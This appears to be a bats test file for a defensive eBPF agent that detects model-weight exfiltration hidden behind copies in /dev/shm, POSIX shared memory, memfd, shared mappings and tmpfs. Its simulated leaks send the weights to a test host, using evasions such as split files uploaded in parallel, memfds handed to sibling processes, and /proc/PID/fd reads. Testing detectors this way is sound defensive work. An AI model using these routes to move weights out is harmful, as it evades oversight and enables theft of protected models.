#!/usr/bin/env bats
# Weights stored where no page hook sees them (issue 10 item 2): files on
# tmpfs and /dev/shm (POSIX shm_open included), memfd. A tainted process
# that opens or holds such a file for writing makes it a copy; a process
# that opens or holds the copy for reading is tainted by it (bpf/shm.bpf.c,
# the fd scan of bpf/lib/taint.bpf.h). Every path in monitor and enforce
# mode, ending in egress to the test host, asserting the original weight
# file in taint.sources and the hop (via shm / memfd, with the copy's path)
# in taint.chain.

load ../lib/harness

SHM_PY="$SCEN/shm.py"

setup() {
	vigil_setup
	require_capability shm
	SHM="/dev/shm/vigil-test-$N"
	rm -rf "$SHM"
	mkdir "$SHM"
}
teardown() {
	rm -rf "${SHM:-/nonexistent}" /dev/shm/"vigil-t$N-"* 2>/dev/null || true
	vigil_teardown
}

BUDGET=$((1 << 20))

# upload_copy FILE MODE ASSERTIONS...: a fresh process sends FILE; monitor:
# all of it arrives and is alerted; enforce: killed at the budget, the test
# host gets at most the budget. The alert names the weights, never the copy.
upload_copy() {
	local f="$1" mode="$2"
	shift 2
	leak --src "$f" --host "$PEER4" --port "$PORT" --tag upload
	if [ "$mode" = enforce ]; then
		[ "$status" -eq 137 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
		run alert_wait action=killed mode=enforce \
			process.cmdline~upload taint.sources.0.path="$W/model.safetensors" "$@"
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq "$(stat -c %s "$f")" ]
		run alert_wait rule=weights-egress action=alert mode=monitor \
			process.cmdline~upload taint.sources.0.path="$W/model.safetensors" "$@"
	fi
	[ "$status" -eq 0 ]
	run alert_none kind=alert taint.sources.*.path~"$SHM"
	[ "$status" -eq 0 ]
}

# killed_or_all MODE: after a leak of the 4 MiB weights' copy: enforce: it
# was killed at the budget, at most the budget arrived; monitor: all of it.
killed_or_all() {
	if [ "$1" = enforce ]; then
		[ "$status" -eq 137 ]
		[ "$(sink_bytes)" -le "$BUDGET" ]
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq $((4 << 20)) ]
	fi
}

cp_to_shm() {
	start_sink tcp
	start_agent --mode "$1"
	run in_cg cp "$W/model.safetensors" "$SHM/w.bin"
	[ "$status" -eq 0 ]
	upload_copy "$SHM/w.bin" "$1" taint.chain.0.via=read taint.chain.0.comm=cp \
		taint.chain.1.via=shm taint.chain.1.path="$SHM/w.bin" taint.depth=1
	stop_agent
	[ "$(alert_get agent.copies_protected kind=agent_stop)" -ge 1 ]
}

@test "shm: monitor: a copy in /dev/shm uploaded by another process names the weights" {
	cp_to_shm monitor
}

@test "shm: enforce: a copy in /dev/shm uploaded by another process is stopped at the budget" {
	cp_to_shm enforce
}

# The headline: split into /dev/shm, then parallel uploads of the parts by
# unrelated processes, each connected before it opens its part (so enforce
# has to stop them at the budget, in total, not at connect).
split_parallel() {
	local mode="$1" pids="" rc got
	start_sink tcp
	start_agent --mode "$mode"
	run in_cg split -b 1M "$W/model.safetensors" "$SHM/part-"
	[ "$status" -eq 0 ]
	[ "$(ls "$SHM" | wc -l)" -eq 4 ]
	for p in "$SHM"/part-*; do
		in_cg python3 "$EXFIL" --connect-first --src "$p" --host "$PEER4" --port "$PORT" \
			--tag "upload-$(basename "$p")" >/dev/null 2>&1 &
		pids="$pids $!"
	done
	local killed=0
	for p in $pids; do
		rc=0
		wait "$p" || rc=$?
		[ "$rc" -eq 137 ] && killed=$((killed + 1))
		[ "$mode" = enforce ] || [ "$rc" -eq 0 ]
	done
	got="$(sink_bytes)"
	figure "split into /dev/shm, 4 parallel uploads: sink bytes ($mode, budget $BUDGET)" "$got"
	if [ "$mode" = enforce ]; then
		[ "$got" -le "$BUDGET" ]
		[ "$killed" -ge 1 ]
		run alert_wait action=killed mode=enforce process.cmdline~upload-part \
			taint.sources.0.path="$W/model.safetensors" taint.chain.0.comm=split \
			taint.chain.1.via=shm taint.chain.1.path~"$SHM/part-"
	else
		[ "$got" -eq $((4 << 20)) ]
		for p in "$SHM"/part-*; do
			run alert_wait rule=weights-egress mode=monitor \
				process.cmdline~"upload-$(basename "$p")" \
				taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
				taint.chain.0.comm=split taint.chain.1.via=shm taint.chain.1.path="$p"
			[ "$status" -eq 0 ]
		done
	fi
	[ "$status" -eq 0 ]
}

@test "shm: monitor: split into /dev/shm, parallel uploads by unrelated processes: every part named by the weights" {
	split_parallel monitor
}

@test "shm: enforce: split into /dev/shm, parallel uploads by unrelated processes get at most the budget in total" {
	split_parallel enforce
}

# POSIX shared memory: shm_open + a MAP_SHARED mapping written with plain
# stores; another process maps it by name and sends it (mmap, no read()).
posix_shm() {
	local name="vigil-t$N-seg"
	start_sink tcp
	start_agent --mode "$1"
	run in_cg python3 "$SHM_PY" posix --src "$W/model.safetensors" --name "$name"
	[ "$status" -eq 0 ]
	leak --via mmap --src "/dev/shm/$name" --host "$PEER4" --port "$PORT" --tag upload
	killed_or_all "$1"
	run alert_wait kind=alert mode="$1" process.cmdline~upload \
		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
		taint.chain.1.via=shm taint.chain.1.path="/dev/shm/$name"
	[ "$status" -eq 0 ]
}

@test "shm: monitor: POSIX shm written through a shared mapping, mapped and sent by another process" {
	posix_shm monitor
}

@test "shm: enforce: POSIX shm written through a shared mapping: the other process is stopped at the budget" {
	posix_shm enforce
}

# The same, mapped before the writer was tainted and its fd closed: no open
# for writing after the taint, no fd for the scan — the agent's task_vma
# scan at the taint record finds the mapping (userspace/shmmaps.c).
premapped_shm() {
	local name="vigil-t$N-pre" job
	start_sink tcp
	start_agent --mode "$1"
	in_cg python3 "$SHM_PY" premapped --src "$W/model.safetensors" --name "$name" \
		--ready "$T/pre.ready" --until "$T/pre.done" &
	job=$!
	for _ in $(seq 200); do [ -e "$T/pre.ready" ] && break; sleep 0.05; done
	[ -e "$T/pre.ready" ]
	leak --src "/dev/shm/$name" --host "$PEER4" --port "$PORT" --tag upload
	touch "$T/pre.done"
	wait "$job"
	killed_or_all "$1"
	run alert_wait kind=alert mode="$1" process.cmdline~upload \
		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
		taint.chain.1.via=shm taint.chain.1.path="/dev/shm/$name"
	[ "$status" -eq 0 ]
}

@test "shm: monitor: POSIX shm mapped before the taint, its fd closed, written with plain stores: the uploader names the weights" {
	premapped_shm monitor
}

@test "shm: enforce: POSIX shm mapped before the taint, its fd closed: the uploader is stopped at the budget" {
	premapped_shm enforce
}

# A file on disk written only through a shared mapping (plain stores): its
# pages are dirtied at the write faults, in the writer's context
# (writeback_dirty_folio), so it is a copy like a written one.
disk_mapwrite() {
	start_sink tcp
	start_agent --mode "$1"
	mkdir "$T/stash"
	run in_cg python3 "$SHM_PY" mapwrite --src "$W/model.safetensors" --dst "$T/stash/w.bin"
	[ "$status" -eq 0 ]
	leak --src "$T/stash/w.bin" --host "$PEER4" --port "$PORT" --tag upload
	killed_or_all "$1"
	run alert_wait kind=alert mode="$1" process.cmdline~upload \
		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
		taint.chain.1.via=file taint.chain.1.path="$T/stash/w.bin"
	[ "$status" -eq 0 ]
}

@test "shm: monitor: a file on disk written only through a shared mapping is a copy" {
	disk_mapwrite monitor
}

@test "shm: enforce: a file on disk written only through a shared mapping: its upload is stopped at the budget" {
	disk_mapwrite enforce
}

# memfd: a holder keeps it; another process opens /proc/PID/fd/N and sends
# it with sendfile.
memfd_proc_fd() {
	start_sink tcp
	start_agent --mode "$1"
	in_cg python3 "$SHM_PY" memfd-hold --src "$W/model.safetensors" --name stash \
		--ready "$T/held" --until "$T/done" &
	local holder=$!
	for _ in $(seq 200); do [ -e "$T/held" ] && break; sleep 0.05; done
	read -r hpid hfd < "$T/held"
	leak --via sendfile --src "/proc/$hpid/fd/$hfd" --host "$PEER4" --port "$PORT" --tag upload
	touch "$T/done"
	wait "$holder"
	if [ "$1" = enforce ]; then
		# sendfile opens the file after its connect: killed at the budget
		[ "$status" -eq 137 ]
		local got
		got="$(sink_bytes)"
		figure "memfd through /proc/PID/fd, sendfile: sink bytes (budget $BUDGET)" "$got"
		[ "$got" -le "$BUDGET" ]
	else
		[ "$status" -eq 0 ]
		[ "$(sink_bytes)" -eq $((4 << 20)) ]
	fi
	run alert_wait kind=alert mode="$1" process.cmdline~upload \
		taint.sources.0.path="$W/model.safetensors" taint.chain.0.via=read \
		taint.chain.0.pid="$hpid" taint.chain.1.via=memfd taint.chain.1.path=memfd:stash
	echo "holder $hpid fd $hfd: $output" >&2
	[ "$status" -eq 0 ]
}

@test "shm: monitor: a memfd opened through /proc/PID/fd by another process names the weights" {
	memfd_proc_fd monitor
}

@test "shm: enforce: a memfd opened through /proc/PID/fd by another process is killed at the budget" {
	memfd_proc_fd enforce
}

# memfd passed by fd: an untainted parent makes it, one child writes the
# weights into it, a sibling that never touched them (and opens nothing)
# sends what it holds: tainted by the fd scan at its first send.
memfd_sibling() {
	start_sink tcp
	start_agent --mode "$1"
	run in_cg python3 "$SHM_PY" memfd-sibling --src "$W/model.safetensors" --name sibling \
		--host "$PEER4" --port "$PORT"
	local got
	got="$(sink_bytes)"
	if [ "$1" = enforce ]; then
		[ "$status" -eq 137 ]
		figure "memfd passed to a sibling: sink bytes (budget $BUDGET)" "$got"
		[ "$got" -le "$BUDGET" ]
	else
		[ "$status" -eq 0 ]
		[ "$got" -eq $((4 << 20)) ]
	fi
	run alert_wait kind=alert mode="$1" taint.sources.0.path="$W/model.safetensors" \
		taint.chain.0.via=read taint.chain.1.via=memfd taint.chain.1.path=memfd:sibling
	[ "$status" -eq 0 ]
}

@test "shm: monitor: a memfd inherited by a process that never touched the weights taints it at its send" {
	memfd_sibling monitor
}

@test "shm: enforce: a memfd inherited by a process that never touched the weights is killed at the budget" {
	memfd_sibling enforce
}

# any tmpfs mount, not only /dev/shm
@test "shm: monitor: a copy on a private tmpfs mount names the weights" {
	mkdir "$T/tmpfs"
	mount -t tmpfs -o size=16m tmpfs "$T/tmpfs"
	start_sink tcp
	start_agent --mode monitor
	run in_cg cp "$W/model.safetensors" "$T/tmpfs/w.bin"
	[ "$status" -eq 0 ]
	leak --via sendfile --src "$T/tmpfs/w.bin" --host "$PEER4" --port "$PORT" --tag upload
	umount "$T/tmpfs"
	[ "$status" -eq 0 ]
	run alert_wait rule=weights-egress process.cmdline~upload \
		taint.sources.0.path="$W/model.safetensors" taint.chain.1.via=shm \
		taint.chain.1.path="$T/tmpfs/w.bin"
	[ "$status" -eq 0 ]
}

# an original the operator protects on tmpfs: no page hook sees its reads,
# the open does (the agent tells the kernel a protected file lives there)
@test "shm: enforce: a weight file protected on tmpfs taints its reader at the open" {
	mkdir "$T/tmpfs"
	mount -t tmpfs -o size=16m tmpfs "$T/tmpfs"
	cp "$W/model.safetensors" "$T/tmpfs/orig.safetensors"
	start_sink tcp
	start_agent --mode enforce --protect "$T/tmpfs/**"
	leak --src "$T/tmpfs/orig.safetensors" --host "$PEER4" --port "$PORT" --tag upload
	umount "$T/tmpfs"
	[ "$status" -eq 137 ]
	[ "$(sink_bytes)" -le "$BUDGET" ]
	run alert_wait action=killed process.cmdline~upload \
		taint.sources.0.path="$T/tmpfs/orig.safetensors" taint.chain.0.via=read
	[ "$status" -eq 0 ]
}
